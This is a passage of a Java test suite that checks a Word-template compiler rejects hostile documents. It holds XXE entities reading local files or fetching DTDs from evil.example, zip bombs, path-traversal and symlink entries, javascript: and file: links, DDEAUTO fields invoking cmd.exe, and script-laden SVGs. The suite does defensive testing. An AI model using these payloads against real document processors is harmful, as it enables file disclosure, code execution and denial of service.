package dev.paperclick.templates;

import static dev.paperclick.templates.Docx.field;
import static dev.paperclick.templates.Docx.hyperlink;
import static dev.paperclick.templates.Docx.lines;
import static dev.paperclick.templates.Docx.p;
import static dev.paperclick.templates.Docx.r;
import static dev.paperclick.templates.Docx.textBox;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.paperclick.platform.UserProblem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Templates and values that mean harm. Each attacking file is given beside one that differs in nothing but the attack
 * and is accepted, so that no refusal is for another reason.
 */
@Execution(ExecutionMode.CONCURRENT)
class AttackTests {

    private static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    private static final int MANY = 1_001;

    @TempDir
    Path folder;

    // XXE, billion laughs, quadratic blow-up, bombs (T2 to T4)

    static Stream<Arguments> declarations() {
        String laughs =
                "<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">";
        return Stream.of(
                Arguments.of("<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>", "&x;"),
                Arguments.of("<!DOCTYPE d SYSTEM \"https://evil.example/x.dtd\">", ""),
                Arguments.of("<!DOCTYPE d [<!ENTITY % x SYSTEM \"https://evil.example/x\"> %x;]>", ""),
                Arguments.of("<!DOCTYPE d [" + laughs + "]>", "&c;"),
                Arguments.of("<!DOCTYPE d [<!ENTITY a \"" + "x".repeat(10_000) + "\">]>", "&a;".repeat(1_000)),
                Arguments.of("<!DOCTYPE d>", ""));
    }

    @ParameterizedTest
    @MethodSource("declarations")
    void documentTypeDeclarationsAreRefusedInEveryPart(String declaration, String reference) {
        Docx plain = Docx.of(lines("x"));
        String xml = plain.documentXml();
        String attack = xml.replace("<w:document", declaration + "<w:document").replace(">x<", ">" + reference + "<");

        assertAccepted(plain);
        assertThat(refusal(Docx.of(lines("x")).entry("word/document.xml", utf8(attack))))
                .contains("document type declaration");
        String header = "<w:hdr " + Docx.NAMESPACES + ">" + lines("{{full_name}}" + reference) + "</w:hdr>";
        assertThat(refusal(Docx.of(lines("x"))
                        .story("header", "h.xml", "")
                        .entry("word/h.xml", utf8(declaration + header))))
                .contains("document type declaration");
        String rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>";
        assertThat(refusal(Docx.of(lines("x")).entry("word/_rels/document.xml.rels", utf8(declaration + rels))))
                .contains("document type declaration");
        assertThat(
                        refusal(
                                Docx.of(lines("x"))
                                        .core("")
                                        .entry(
                                                "docProps/core.xml",
                                                utf8(
                                                        declaration
                                                                + "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\"/>"))))
                .contains("document type declaration");
        assertThat(
                        refusal(
                                Docx.of(lines("x"))
                                        .entry(
                                                "[Content_Types].xml",
                                                utf8(
                                                        declaration
                                                                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"))))
                .contains("document type declaration");
    }

    @Test
    void entriesThatUnpackToFarMoreAreRefused() {
        int limit = 100 << 10;
        byte[] noise = new byte[3 << 20];
        new Random(1).nextBytes(noise);

        assertAccepted(hello().entry("word/media/a.bmp", new byte[limit]));
        assertAccepted(hello().entry("word/media/a.bmp", noise));
        assertThat(refusal(hello().entry("word/media/a.bmp", new byte[limit * 3])))
                .contains("unpacks to far more");
        assertThat(refusal(Docx.of(lines("x".repeat(1 << 20))))).contains("unpacks to far more");
    }

    @Test
    void theWholeMayNotUnpackToMoreThanFiftyMegabytes() {
        byte[] loose = mostlyEmpty(11 << 20);

        assertAccepted(media(loose, 4));
        assertThat(refusal(media(loose, 5))).contains("unpacks to far more");
    }

    @Test
    void noEntryMayUnpackToMoreThanTwentyMegabytes() {
        byte[] loose = mostlyEmpty(21 << 20);

        assertAccepted(hello().entry("word/media/a.bmp", Arrays.copyOf(loose, 19 << 20)));
        assertThat(refusal(hello().entry("word/media/a.bmp", loose))).contains("unpacks to far more");
    }

    @Test
    void aThousandEntriesAreEnough() {
        assertAccepted(crowd(MANY - 1));
        assertThat(refusal(crowd(MANY))).contains("more than 1000 entries");
    }

    // Deep nesting and length (T5)

    @Test
    void depthIsLimited() {
        assertAccepted(nestedTables(80));
        assertThat(refusal(nestedTables(86))).contains("nested more than 256 levels deep");
        assertThat(refusal(nestedTables(3_000))).contains("nested more than 256 levels deep");
    }

    @Test
    void depthIsLimitedInEveryPart() {
        String deep = "<w:sdt><w:sdtContent>".repeat(2_000) + p() + "</w:sdtContent></w:sdt>".repeat(2_000);

        assertThat(refusal(hello().story("footer", "f.xml", deep))).contains("nested more than 256 levels deep");
        assertThat(refusal(Docx.of(p(r("x"))).styles(deep))).contains("nested more than 256 levels deep");
    }

    @Test
    void manyParagraphsAreFilled() throws IOException {
        int many = 200_000;
        StringBuilder body = new StringBuilder();
        Random random = new Random(4);
        for (int i = 1; i < many; i++) {
            body.append("<w:p><w:r><w:t>").append(random.nextInt(1_000_000)).append("</w:t></w:r></w:p>");
        }
        CompiledTemplate template =
                compile(Docx.of(body + lines("Hi {{full_name}}")).bytes());

        assertThat(Rendered.of(template, Samples.plain()).xml())
                .endsWith("Hi Ada Lovelace</w:t></w:r></w:p><w:sectPr></w:sectPr></w:body></w:document>"
                        .replace("<w:sectPr></w:sectPr>", "<w:sectPr/>"));
    }

    @Test
    void moreThanAMillionElementsAreRefused() {
        StringBuilder body = new StringBuilder();
        Random random = new Random(5);
        for (int i = 0; i < 1_000_001; i++) {
            body.append(random.nextBoolean() ? "<w:p/>" : "<w:p></w:p>");
        }

        assertThat(refusal(Docx.of(body.toString()))).contains("more than a million elements");
    }

    @ParameterizedTest
    @ValueSource(strings = {"styles", "numbering", "settings", "fontTable", "webSettings"})
    void partsThatNeedNoFillingAreReadAllTheSame(String kind) {
        String xml = "<w:" + kind + " " + Docx.NAMESPACES + "/>";
        String deep = xml.replace("/>", ">" + "<w:x>".repeat(300) + "</w:x>".repeat(300) + "</w:" + kind + ">");

        assertAccepted(plainPart(kind, xml));
        assertThat(refusal(plainPart(kind, "<!DOCTYPE x [<!ENTITY a \"b\">]>" + xml)))
                .contains("document type declaration");
        assertThat(refusal(plainPart(kind, deep))).contains("nested more than 256 levels deep");
    }

    private static Docx plainPart(String kind, String xml) {
        return Docx.of(lines("x"))
                .part("word/" + kind + ".xml", WORD + kind + "+xml", xml)
                .relationship("word/document.xml", "rP", kind, kind + ".xml");
    }

    // Names, duplicates, polyglots, damage, encryption (T6, T7)

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../evil.xml",
                "word/../../evil.xml",
                "word/media/../../../evil",
                "..\\evil.xml",
                "/etc/cron.d/evil",
                "\\\\host\\share\\evil",
                "C:\\evil.xml",
                "c:evil",
                "word//evil.xml",
                "./evil.xml",
                "word/evil.xml\u0000.png"
            })
    void namesThatLeadOutAreRefused(String name) {
        assertAccepted(hello().entry("word/evil.xml", utf8("<x/>")));
        assertThat(refusal(hello().entry(name, utf8("<x/>")))).contains("unsafe name");
    }

    @ParameterizedTest
    @ValueSource(strings = {"word/document.xml", "Word/Document.XML", "word\\document.xml", "WORD/DOCUMENT.XML"})
    void entriesOfOneNameAreRefused(String name) throws IOException {
        Map<String, byte[]> entries = Ooxml.of(hello().bytes()).entries();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                put(zip, entry.getKey(), entry.getValue());
            }
            zip.finish();
        }
        assertThatCode(() -> compile(bytes.toByteArray())).doesNotThrowAnyException();
        ByteArrayOutputStream twice = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(twice)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                put(zip, entry.getKey(), entry.getValue());
            }
            put(zip, name, utf8(Docx.of(lines("another")).documentXml()));
            zip.finish();
        }

        assertThat(refusal(twice.toByteArray())).contains("two entries named");
    }

    @Test
    void symbolicLinksAreRefused() throws IOException {
        assertThatCode(() -> compile(withMode(0100644))).doesNotThrowAnyException();
        assertThat(refusal(withMode(0120777))).contains("no plain file");
    }

    private static byte[] withMode(int mode) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry :
                    Ooxml.of(hello().bytes()).entries().entrySet()) {
                put(zip, entry.getKey(), entry.getValue());
            }
            ZipArchiveEntry link = new ZipArchiveEntry("word/media/a.png");
            link.setUnixMode(mode);
            zip.putArchiveEntry(link);
            zip.write(utf8("/etc/passwd"));
            zip.closeArchiveEntry();
            zip.finish();
        }
        return bytes.toByteArray();
    }

    @ParameterizedTest
    @ValueSource(strings = {"GIF89a", "%PDF-1.7\n", "MZ", "<html>", "#!/bin/sh\n", "PK"})
    void filesThatBeginAsSomethingElseAreRefused(String beginning) throws IOException {
        byte[] good = hello().bytes();
        byte[] front = beginning.getBytes(StandardCharsets.US_ASCII);
        byte[] polyglot = Arrays.copyOf(front, front.length + good.length);
        System.arraycopy(good, 0, polyglot, front.length, good.length);

        assertThat(refusal(polyglot)).contains("is not a Word document");
    }

    @Test
    void filesThatEndEarlyAreRefusedWhereverTheyEnd() throws IOException {
        byte[] good = hello().bytes();
        Random random = new Random(6);
        for (int i = 0; i < 60; i++) {
            int length = 4 + random.nextInt(good.length - 4);
            assertThat(refusal(Arrays.copyOf(good, length)))
                    .as("%d of %d bytes", length, good.length)
                    .contains("damaged");
        }
    }

    @Test
    void damagedFilesAreRefusedOrRead() throws IOException {
        byte[] good = hello().stored().bytes();
        Random random = new Random(7);
        for (int i = 0; i < 500; i++) {
            byte[] damaged = good.clone();
            for (int hit = 0; hit <= i % 4; hit++) {
                damaged[random.nextInt(damaged.length)] = (byte) random.nextInt();
            }
            try {
                compile(damaged);
            } catch (UserProblem refused) {
                assertThat(refused.getMessage()).startsWith("template.docx");
            }
        }
    }

    @Test
    void encryptedPackagesAreRefused() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (POIFSFileSystem system = new POIFSFileSystem()) {
            system.createDocument(new java.io.ByteArrayInputStream(hello().bytes()), "EncryptedPackage");
            system.writeFilesystem(bytes);
        }

        assertThat(refusal(bytes.toByteArray())).contains("protected with a password");
    }

    // Programs, embedded objects and content from elsewhere (T8 to T11)

    static Stream<Arguments> embedded() {
        return Stream.of(
                Arguments.of(hello().entry("word/vbaProject.bin", new byte[4]), "macros"),
                Arguments.of(
                        hello().part("word/data.bin", "application/vnd.ms-office.vbaProject", "<x/>")
                                .relationship("word/document.xml", "rX", "image", "data.bin"),
                        "macros"),
                Arguments.of(internal("http://schemas.microsoft.com/office/2006/relationships/vbaProject"), "macros"),
                Arguments.of(
                        hello().contentTypes(
                                        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\""
                                                + " ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"),
                        "macros"),
                Arguments.of(hello().part("word/a.xml", "application/vnd.ms-office.activeX+xml", "<x/>"), "ActiveX"),
                Arguments.of(hello().entry("word/activeX/activeX1.bin", new byte[4]), "ActiveX"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "control"), "ActiveX"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "oleObject"), "OLE"),
                Arguments.of(
                        hello().part("word/e.bin", "application/vnd.openxmlformats-officedocument.oleObject", "x"),
                        "OLE"),
                Arguments.of(
                        hello().entry("word/media/a.png", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1}),
                        "OLE"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "aFChunk"), "altChunk"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "subDocument"), "subdocument"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "frame"), "frame"),
                Arguments.of(internal("http://purl.oclc.org/ooxml/officeDocument/relationships/aFChunk"), "altChunk"));
    }

    @ParameterizedTest
    @MethodSource("embedded")
    void programsAndForeignDocumentsAreRefused(Docx docx, String words) {
        assertThat(refusal(docx)).contains(words);
    }

    @Test
    void anOrdinaryPartInTheirPlaceIsAccepted() {
        assertAccepted(internal(Docx.RELATIONSHIPS + "customXml"));
        assertAccepted(hello().entry("word/media/a.png", new byte[] {(byte) 0x89, 'P', 'N', 'G'}));
    }

    private static Docx internal(String type) {
        return hello().part("word/thing.xml", "application/xml", "<x/>")
                .entry(
                        "word/_rels/document.xml.rels",
                        utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rX\" Type=\"" + type
                                + "\" Target=\"thing.xml\"/></Relationships>"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "attachedTemplate",
                "image",
                "oleObject",
                "package",
                "aFChunk",
                "subDocument",
                "frame",
                "mailMergeSource",
                "mailMergeHeaderSource",
                "recipientData",
                "video",
                "audio",
                "customXml",
                "settings",
                "theme",
                "footer",
                "transform"
            })
    void nothingButLinksMayLeadElsewhere(String type) {
        assertAccepted(hello().external("rX", "hyperlink", "https://elsewhere.example/a"));
        for (String target : new String[] {"https://elsewhere.example/a", "\\\\elsewhere\\a", "file:///c:/a"}) {
            assertThat(refusal(hello().external("rX", type, target))).as(target).startsWith("template.docx ");
        }
    }

    @Test
    void relationshipsOfEveryPartAreLookedAt() {
        String remote = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rX\" Type=\"" + Docx.RELATIONSHIPS
                + "attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
        String settings = WORD + "settings+xml";
        String xml = "<w:settings " + Docx.NAMESPACES + "><w:attachedTemplate r:id=\"rX\"/></w:settings>";

        assertThat(refusal(hello().part("word/settings.xml", settings, xml)
                        .relationship("word/document.xml", "rS", "settings", "settings.xml")
                        .entry("word/_rels/settings.xml.rels", utf8(remote))))
                .contains("attached template", "https://evil.example/t.dotm");
        assertThat(refusal(hello().story("header", "h.xml", p()).entry("word/_rels/h.xml.rels", utf8(remote))))
                .contains("attached template");
        assertThat(refusal(hello().story("header", "h.xml", p()).entry("WORD/_RELS/H.XML.RELS", utf8(remote))))
                .contains("attached template");
    }

    // Links and fields (T12)

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "JavaScript:alert(1)",
                "java&#9;script:alert(1)",
                " javascript:alert(1)",
                "javascript:%7b%7bfull_name%7d%7d",
                "vbscript:x",
                "file:///c:/windows/system32/cmd.exe",
                "\\\\host\\share\\x",
                "//host/share",
                "data:text/html,x",
                "ms-word:ofe|u|https://evil.example",
                "search-ms:query=x",
                "ftp://evil.example/x"
            })
    void linksOfOtherKindsAreRefused(String target) {
        assertAccepted(Docx.of(p(hyperlink("rL", "x"))).link("rL", "https://example.com/"));
        assertThat(refusal(Docx.of(p(hyperlink("rL", "x"))).link("rL", target))).contains("has a link to");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "file:///c:/x",
                "\\\\host\\share",
                "data:text/html,x",
                "vbscript:x",
                "java\nscript:x",
                "ftp://x.example",
                "https://",
                "https://good.example\\@evil.example\u0000 x"
            })
    void valuesOfOtherKindsMakeNoLink(String value) throws IOException {
        Docx docx = Docx.of(
                        p(hyperlink("rL", "a")),
                        lines("{{some_url}}"),
                        p(field("HYPERLINK \"{{some_url}}\"", "b")),
                        p(hyperlink("rM", "c")))
                .link("rL", "%7b%7bsome_url%7d%7d")
                .link("rM", "file:///C:\\%7b%7bsome_url%7d%7d");
        CompiledTemplate template = compile(docx.bytes());

        assertThat(Rendered.of(template, Contents.fields("some_url", "https://good.example"))
                        .targets())
                .hasSize(4);
        assertThat(Rendered.of(template, Contents.fields("some_url", value)).targets())
                .isEmpty();
        assertThat(Rendered.of(template, Contents.fields("some_url", Contents.link(value)))
                        .targets())
                .isEmpty();
    }

    @Test
    void valuesCannotBreakOutOfAnAddress() throws IOException {
        String value = "https://x.example/\" TargetMode=\"Internal\"/><Relationship Id=\"rX\" Target='&<>";
        CompiledTemplate template = compile(Docx.of(lines("{{some_url|x}}")).bytes());
        Rendered rendered = Rendered.of(template, Contents.fields("some_url", value));

        assertThat(rendered.targets()).hasSize(1);
        assertThat(Ooxml.of(rendered.bytes()).relationships("word/document.xml").keySet())
                .noneMatch("rX"::equals);
    }

    static Stream<Arguments> fields() {
        return Stream.of(
                        "DDE",
                        "DDEAUTO",
                        "INCLUDETEXT",
                        "INCLUDEPICTURE",
                        "IMPORT",
                        "INCLUDE",
                        "LINK",
                        "EMBED",
                        "DATABASE",
                        "MACROBUTTON",
                        "GOTOBUTTON",
                        "RD",
                        "AUTOTEXT",
                        "PRINT",
                        "CONTROL",
                        "ASK",
                        "FILLIN",
                        "HTMLACTIVEX")
                .map(Arguments::of);
    }

    @ParameterizedTest
    @MethodSource("fields")
    void fieldsThatFetchOrRunAreRefusedHoweverTheyAreSplit(String kind) {
        String rest = " \"c:\\\\x\" a";
        String split = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> "
                + kind.charAt(0) + "</w:instrText></w:r><w:bookmarkStart w:id=\"1\" w:name=\"b\"/><w:r><w:instrText>"
                + kind.substring(1, 2).toLowerCase()
                + "</w:instrText></w:r><w:bookmarkEnd w:id=\"1\"/><w:r><w:instrText>"
                + kind.substring(2) + rest + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                + r("x")
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        String simple = "<w:fldSimple w:instr=\" " + kind + " x\">" + r("x") + "</w:fldSimple>";

        assertAccepted(Docx.of(p(split.replace(kind.charAt(0) + "</w:instr", "PAGE</w:instr")
                .replaceAll("<w:instrText>[^<]*", "<w:instrText>"))));
        for (String attack : new String[] {split, simple, field(kind + rest, "x")}) {
            assertThat(refusal(Docx.of(p(attack)))).contains("is a field of the kind " + kind);
            assertThat(refusal(hello().story("header", "h.xml", p(attack)))).contains("header 1");
            assertThat(refusal(hello().footnotes(p(attack)))).contains("the footnotes");
            assertThat(refusal(Docx.of(p(textBox(p(attack)))))).contains("is a field of the kind " + kind);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"file:///c:/x.exe", "\\\\\\\\host\\\\share", "javascript:alert(1)", "x.docx"})
    void linkFieldsLeadNowhereElseThanLinksDo(String target) {
        assertAccepted(Docx.of(p(field("HYPERLINK \"https://example.com/\"", "x"))));
        assertAccepted(Docx.of(p(field("HYPERLINK \\l \"place\" \\* MERGEFORMAT", "x"))));
        assertThat(refusal(Docx.of(p(field("HYPERLINK \"" + target + "\"", "x")))))
                .contains("which is no web, mail or telephone address");
    }

    @Test
    void fieldsInFieldsAreLookedAt() {
        String nested = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>"
                + field("INCLUDETEXT \"https://evil.example\"", "x")
                + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>" + r("x")
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

        assertAccepted(Docx.of(p(nested.replace("INCLUDETEXT \"https://evil.example\"", "PAGE"))));
        assertThat(refusal(Docx.of(p(nested)))).contains("is a field of the kind INCLUDETEXT");
    }

    // What parts say past their relationships

    static Stream<Arguments> shapes() {
        String shape = "<w:r><w:pict><v:shape %s><v:imagedata %s/></v:shape></w:pict></w:r>";
        return Stream.of(
                Arguments.of(shape.formatted("href=\"file:///c:/x\"", ""), "has a shape with a link to 'file:///c:/x'"),
                Arguments.of(shape.formatted("href=\" javascript:x\"", ""), "has a shape with a link"),
                Arguments.of(shape.formatted("href=\"{{full_name}}\"", ""), "has a shape with a link"),
                Arguments.of(shape.formatted("", "src=\"https://evil.example/a.png\""), "fetches a picture"),
                Arguments.of(shape.formatted("", "src=\"\\\\evil\\a.png\""), "fetches a picture"),
                Arguments.of(
                        shape.formatted("", "xmlns:o=\"urn:schemas-microsoft-com:office:office\" o:href=\"file:///x\""),
                        "fetches a picture"),
                Arguments.of(
                        shape.formatted("", "xmlns:o=\"urn:schemas-microsoft-com:office:office\" o:althref=\"//x/y\""),
                        "fetches a picture"));
    }

    @ParameterizedTest
    @MethodSource("shapes")
    void shapesFetchNothing(String run, String sentence) {
        String harmless = run.replaceAll("(href|src)=\"[^\"]*\"", "$1=\"#a\"");
        String numbering = "<w:numbering " + Docx.NAMESPACES + "><w:numPicBullet>" + run.replaceAll("</?w:r>", "")
                + "</w:numPicBullet></w:numbering>";

        assertAccepted(Docx.of(p(harmless)));
        assertAccepted(Docx.of(p(run.replaceAll("href=\"[^\"]*\"", "title=\"\"").replaceAll(" src=\"[^\"]*\"", ""))));
        assertThat(refusal(Docx.of(p(run)))).contains(sentence);
        assertThat(refusal(hello().story("header", "h.xml", p(run)))).contains(sentence);
        assertThat(refusal(plainPart("numbering", numbering))).contains(sentence);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>x</script>",
                "<g onload=\"x\"/>",
                "<image href=\"https://evil.example/a.png\"/>",
                "<image xmlns:l=\"http://www.w3.org/1999/xlink\" l:href=\"file:///a.png\"/>",
                "<image href=\"data:text/html,x\"/>",
                "<a href=\"javascript:x\"/>",
                "<style>@import 'https://evil.example/a.css'</style>",
                "<style>a { fill: url(https://evil.example/a) }</style>",
                "<rect style=\"fill: url('//evil/a')\"/>",
                "<foreignObject/>"
            })
    void vectorPicturesAreOnlyPictures(String inside) {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\">%s</svg>";
        Docx harmless = picture(
                svg.formatted("<style>a{fill:url(#b)}</style><use href=\"#c\"/><image href=\"data:image/png;base64,\"/>"
                        + "<a href=\"https://example.com\"/>"));

        assertAccepted(harmless);
        assertThat(refusal(picture(svg.formatted(inside)))).contains("(its part word/media/a.svg)");
    }

    private static Docx picture(String svg) {
        return hello().part("word/media/a.svg", "image/svg+xml", svg)
                .relationship("word/document.xml", "rPicture", "image", "media/a.svg");
    }

    @ParameterizedTest
    @ValueSource(strings = {"styles", "numbering", "settings", "fontTable", "webSettings"})
    void fieldsStandInTextOnly(String kind) {
        String xml = "<w:" + kind + " " + Docx.NAMESPACES + "><w:x>" + field("PAGE", "1") + "</w:x></w:" + kind + ">";

        assertAccepted(plainPart(kind, xml.replace("instrText", "x").replace("fldChar", "x")));
        assertThat(refusal(plainPart(kind, xml))).contains("has a field, which belongs into the text");
        assertThat(refusal(hello().part("word/h.xml", "application/xml", xml)
                        .relationship("word/document.xml", "rH", "header", "h.xml")))
                .contains("has a field, which belongs into the text");
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://evil.example/a", "file:///c:/x", "\\\\evil\\a", "//evil/a", "javascript:x"})
    void whatCallsItselfInternalMayNotLeadOutEither(String target) {
        for (String type : new String[] {"hyperlink", "image", "header", "settings"}) {
            boolean web = type.equals("hyperlink") && target.startsWith("https:");
            Docx docx = hello().relationship("word/document.xml", "rX", type, target);
            if (web) {
                assertAccepted(docx);
            } else {
                assertThat(refusal(docx)).as(type).contains("template.docx ");
            }
        }
    }

    @Test
    void buildingBlocksDoNotGoOut() throws IOException {
        String glossary = "<w:glossaryDocument " + Docx.NAMESPACES + "><w:docParts><w:docPart><w:docPartBody>"
                + p(field("DDEAUTO c:\\\\cmd.exe", "x"))
                + "</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>";
        String control = "<w:sdt><w:sdtPr><w:placeholder><w:docPart w:val=\"Block\"/></w:placeholder></w:sdtPr>"
                + "<w:sdtContent>" + lines("Hi {{full_name}}") + "</w:sdtContent></w:sdt>";
        Docx docx = Docx.of(control, p())
                .part("word/glossary/document.xml", WORD + "document.glossary+xml", glossary)
                .part("word/glossary/styles.xml", WORD + "styles+xml", "<w:styles " + Docx.NAMESPACES + "/>")
                .relationship("word/document.xml", "rG", "glossaryDocument", "glossary/document.xml")
                .relationship("word/glossary/document.xml", "rS", "styles", "styles.xml")
                .external("word/glossary/document.xml", "rT", "attachedTemplate", "https://evil.example/t.dotm");
        Rendered rendered = Rendered.of(compile(docx.bytes()), Samples.plain());

        assertThat(rendered.entries().keySet()).noneMatch(name -> name.contains("glossary"));
        assertThat(rendered.xml("[Content_Types].xml")).doesNotContain("glossary");
        assertThat(rendered.xml("word/_rels/document.xml.rels")).doesNotContain("glossary");
        assertThat(rendered.xml()).contains("Hi Ada Lovelace");
        assertThat(rendered.open().getParagraphs()).isNotEmpty();
    }

    @Test
    void theWorkbookOfAChartDoesNotGoOut() throws IOException {
        String chart = "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\""
                + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><c:chart/>"
                + "<c:externalData r:id=\"rB\"><c:autoUpdate/></c:externalData></c:chartSpace>";
        Docx docx = hello().part(
                        "word/charts/chart1.xml",
                        "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
                        chart)
                .relationship("word/document.xml", "rC", "chart", "charts/chart1.xml")
                .part(
                        "word/embeddings/book.xlsx",
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                        "anything")
                .relationship("word/charts/chart1.xml", "rB", "package", "../embeddings/book.xlsx");
        Rendered rendered = Rendered.of(compile(docx.bytes()), Samples.plain());

        assertThat(rendered.entries()).doesNotContainKey("word/embeddings/book.xlsx");
        assertThat(rendered.xml("word/charts/chart1.xml")).contains("c:chart/").doesNotContain("externalData");
        assertThat(rendered.xml("word/charts/_rels/chart1.xml.rels")).doesNotContain("book.xlsx");
        assertThat(refusal(hello().part(
                                "word/charts/chart1.xml",
                                "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
                                chart)
                        .relationship("word/document.xml", "rC", "chart", "charts/chart1.xml")
                        .external("word/charts/chart1.xml", "rB", "package", "https://evil.example/book.xlsx")))
                .contains("an embedded file");
    }

    @Test
    void nothingIsLeftThatActsByItself() throws IOException {
        String form =
                "<w:r><w:fldChar w:fldCharType=\"begin\"><w:fldData>AAAA</w:fldData><w:ffData><w:name w:val=\"f\"/>"
                        + "<w:entryMacro w:val=\"FilePrint\"/><w:exitMacro w:val=\"x\"/></w:ffData></w:fldChar></w:r><w:r>"
                        + "<w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        String bound =
                "<w:sdt><w:sdtPr><w15:dataBinding xmlns:w15=\"http://schemas.microsoft.com/office/word/2012/wordml\""
                        + " w15:xpath=\"/x\"/></w:sdtPr><w:sdtContent>" + lines("x") + "</w:sdtContent></w:sdt>";
        Rendered rendered = Rendered.of(compile(Docx.of(p(form), bound, p()).bytes()), Samples.plain());

        assertThat(rendered.xml())
                .contains("w:name w:val=\"f\"")
                .doesNotContain("Macro", "fldData", "dataBinding", "FilePrint");
    }

    @Test
    void linksWithoutAnAddressAreTextAgain() throws IOException {
        String picture =
                "<w:r><w:drawing><wp:inline><wp:docPr id=\"1\" name=\"p\"><a:hlinkClick r:id=\"rL\"/></wp:docPr>"
                        + "</wp:inline></w:drawing></w:r>";
        Docx docx = Docx.of(
                        p(r("a "), hyperlink("rL", "b"), r(" c"), hyperlink("rM", "d"), picture),
                        p("<w:hyperlink w:anchor=\"place\" r:id=\"rL\">" + r("e") + "</w:hyperlink>"))
                .link("rL", "")
                .link("rM", "https://example.com/");
        Rendered rendered = Rendered.of(compile(docx.bytes()), Samples.plain());

        assertThat(rendered.text()).isEqualTo("a b cd\ne");
        assertThat(rendered.targets()).containsExactly("https://example.com/");
        assertThat(rendered.xml()).contains("w:anchor=\"place\"").doesNotContain("hlinkClick", "rL");
    }

    // What would take for ever (T5)

    static Stream<Arguments> endless() {
        String tag = "<w:r><w:t>%s{{x}}</w:t></w:r>";
        StringBuilder names = new StringBuilder();
        for (int i = 0; i < 1 << 14; i++) {
            names.append('<');
            for (int bit = 0; bit < 14; bit++) {
                names.append((i >> bit & 1) == 0 ? "Aa" : "BB");
            }
            names.append("/>");
        }
        return Stream.of(
                Arguments.of("an attribute of 3 MB", "<w:p w:x=\"" + noise(3 << 20) + "\"/>", "not well-formed"),
                Arguments.of("100 000 attributes", "<w:p" + many(" a%d=\"\"", 100_000) + "/>", "not well-formed"),
                Arguments.of(
                        "100 000 namespaces", "<w:p" + many(" xmlns:a%d=\"u%<d\"", 100_000) + "/>", "not well-formed"),
                Arguments.of("names of one hash", names.toString(), ""),
                Arguments.of("a paragraph of tags", p(many(tag, 9_000)), ""),
